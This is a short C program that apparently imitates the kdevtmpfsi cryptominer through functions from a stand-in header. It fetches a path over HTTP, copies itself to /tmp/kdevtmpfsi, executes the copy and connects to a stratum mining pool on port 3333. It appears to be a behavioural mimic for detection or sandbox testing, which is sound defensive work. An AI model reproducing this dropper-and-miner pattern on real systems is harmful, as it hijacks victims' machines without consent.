#include "stand-in.h"

/* Writes a copy of itself as kdevtmpfsi and runs it, which mines: two programs, as the real one. */
int main(int argc, char **argv)
{
	(void)argv;
	if (argc == 1) {
		http_get("http", 8000, "/h2");
		copy_self("/tmp/kdevtmpfsi");
		if (fork() == 0)
			execl("/tmp/kdevtmpfsi", "/tmp/kdevtmpfsi", "mine", (char *)NULL);
		wait(NULL);
		return 0;
	}
	int pool = dial("stratum", 3333);

	stratum_login(pool);
	mine(pool, 1, 90, 15, KEEP_ALIVE);
}
